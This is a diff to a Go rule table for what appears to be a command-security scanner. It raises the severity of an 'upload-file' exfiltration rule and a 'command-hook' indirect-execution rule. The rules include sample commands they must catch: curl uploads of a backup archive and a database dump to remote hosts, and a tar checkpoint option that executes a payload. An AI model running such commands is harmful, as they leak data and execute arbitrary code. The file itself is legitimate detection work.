@@ -354,7 +354,7 @@ var rules = []*rule{
 		check:   checkDNSExfil,
 	},
 	{
-		ID: "upload-file", Class: "exfiltration", Sev: medium,
+		ID: "upload-file", Class: "exfiltration", Sev: high,
 		Msg:     "uploads a local file to a remote host",
 		Must:    []string{"curl -T backup.tar https://files.example.net/drop/", "curl -F upload=@db.dump http://192.0.2.50/"},
 		MustNot: []string{"curl -d '{\"a\":1}' -H 'Content-Type: application/json' https://api.example.com/items", "curl -fsSL https://example.org"},
@@ -682,7 +682,7 @@ var rules = []*rule{
 		check:   checkCodeSend,
 	},
 	{
-		ID: "command-hook", Class: "indirect execution", Sev: medium,
+		ID: "command-hook", Class: "indirect execution", Sev: high,
 		Msg: "runs a command through another program's option or environment hook",
 		Must: []string{
 			"tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=./payload",
